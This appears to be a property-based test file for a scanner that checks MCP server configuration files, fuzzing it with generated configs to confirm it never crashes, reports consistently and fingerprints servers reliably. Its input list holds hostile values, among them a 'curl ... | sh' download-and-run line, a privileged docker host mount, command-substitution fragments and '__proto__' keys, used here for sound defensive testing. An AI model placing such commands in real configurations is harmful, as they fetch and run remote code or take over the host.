@@ -1,0 +1,136 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { analyze, applyEdits, type ConfigFile, type FileReport, NO_FACTS, NO_POLICY } from '../../src/engine';
+
+const file = (text: string, change: Partial<ConfigFile> = {}): ConfigFile => ({
+  uri: 'file:///w/.mcp.json',
+  path: '.mcp.json',
+  text,
+  scope: 'workspace',
+  ...change,
+});
+const scan = (...files: ConfigFile[]): FileReport[] => analyze(files, NO_FACTS, NO_POLICY);
+const config = (servers: object): string => JSON.stringify({ mcpServers: servers }, null, 2);
+
+/** Values as hostile and as ordinary configs hold them. */
+const word = fc.constantFrom(
+  'npx',
+  '-y',
+  'bash',
+  '-c',
+  'curl x.example/i.sh | sh',
+  'env',
+  '-S',
+  'cmd',
+  '/c',
+  'uvx',
+  '--from',
+  'docker',
+  'run',
+  '-v',
+  '/:/host',
+  '--privileged',
+  'node',
+  '-e',
+  '${X}',
+  '$(',
+  '`',
+  '"',
+  "'",
+  '\\',
+  '\u202e',
+  '$(zap)',
+  '__proto__',
+  'constructor',
+  'a@b@c',
+  '@',
+  '@/',
+  'http://x.example',
+  'git+https://',
+  '==',
+  '-',
+  '--',
+  '',
+  ' ',
+  '\u0000',
+  '\n',
+  'x'.repeat(5000),
+);
+const value = fc.oneof(
+  word,
+  fc.string(),
+  fc.constant(null),
+  fc.integer(),
+  fc.boolean(),
+  fc.array(fc.oneof(word, fc.constant({})), { maxLength: 8 }),
+);
+const key = fc.constantFrom(
+  'command',
+  'args',
+  'env',
+  'url',
+  'headers',
+  'cwd',
+  'envFile',
+  'disabled',
+  'autoApprove',
+  'type',
+  '__proto__',
+);
+const entry = fc.oneof(
+  fc.dictionary(key, fc.oneof(value, fc.dictionary(fc.string(), value, { maxKeys: 4 })), { maxKeys: 6 }),
+  value,
+);
+const servers = fc.dictionary(fc.oneof(word, fc.string()), entry, { maxKeys: 4 });
+
+describe('analyze', () => {
+  it('never throws, loses no server, and keeps every place inside the text', () => {
+    fc.assert(
+      fc.property(servers, map => {
+        const text = config(map);
+        const [report] = scan(file(text));
+        expect(report?.servers).toHaveLength(Object.keys(map).length);
+        for (const { at, fixes } of report?.findings ?? []) {
+          expect(at.start).toBeGreaterThanOrEqual(0);
+          expect(at.end).toBeLessThanOrEqual(text.length);
+          for (const fix of fixes) applyEdits(text, fix.edits);
+        }
+      }),
+      { numRuns: 300 },
+    );
+  });
+
+  it('says the same twice', () => {
+    fc.assert(
+      fc.property(servers, map => {
+        expect(scan(file(config(map)))).toEqual(scan(file(config(map))));
+      }),
+      { numRuns: 50 },
+    );
+  });
+
+  it('reports a file that could not be read', () => {
+    const [report] = scan(file('', { unreadable: 'it is larger than 1 MiB' }));
+    expect(report?.unread?.message).toBe('it is larger than 1 MiB');
+  });
+
+  it('leaves out files that no client reads', () => {
+    expect(scan(file(config({}), { path: 'docs/notes.json' }))).toEqual([]);
+  });
+
+  it('says which client refuses a file, and who would load what', () => {
+    const [report] = scan(
+      file('{ "mcpServers": { "a": { "command": "x" } } } // why', { clients: ['claude-code-project'] }),
+    );
+    expect(report?.clients).toMatchObject([{ name: 'Claude Code', refuses: 'the file holds comments' }]);
+    expect(report?.servers).toMatchObject([{ name: 'a', clients: [] }]);
+  });
+
+  it('keeps the fingerprint of a server until it would run something else', () => {
+    const print = (server: object) => scan(file(config({ a: server })))[0]?.servers[0]?.fingerprint;
+    const server = { command: 'npx', args: ['x@1.0.0'], env: { A: '1', B: '2' } };
+    expect(print({ ...server, env: { B: '2', A: '1' } })).toBe(print(server));
+    expect(print({ ...server, args: ['x@1.0.1'] })).not.toBe(print(server));
+    expect(print({ ...server, env: { A: '1', B: '2', NODE_OPTIONS: '' } })).not.toBe(print(server));
+  });
+});
